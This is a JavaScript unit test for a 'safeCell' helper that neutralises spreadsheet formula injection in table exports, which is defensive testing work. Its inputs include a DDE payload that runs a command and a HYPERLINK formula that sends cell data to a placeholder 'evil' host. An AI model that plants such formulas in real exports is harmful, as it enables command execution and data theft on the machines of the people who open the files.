import { safeCell } from './table-writer.js';

describe('#15.4 formula injection in exports: safeCell', () => {
  it.each([
    "-2+3+cmd|' /C calc'!A0",
    '-1+HYPERLINK("https://evil/?"&C3,"x")',
    '=SUM(A1)',
    '+1 2+3',
    '@SUM(1)',
    '\tx',
    '\rx',
    '- 1',
    '-1.5',
  ])('neutralises %j', (value) => {
    expect(safeCell(value)).toBe(`'${value}`);
  });

  it.each(['+27821234567', '-5', '42', '+27 82 123 4567', 'Mokoena', '', "O'Neill"])(
    'leaves %j as it is',
    (value) => {
      expect(safeCell(value)).toBe(value);
    },
  );
});
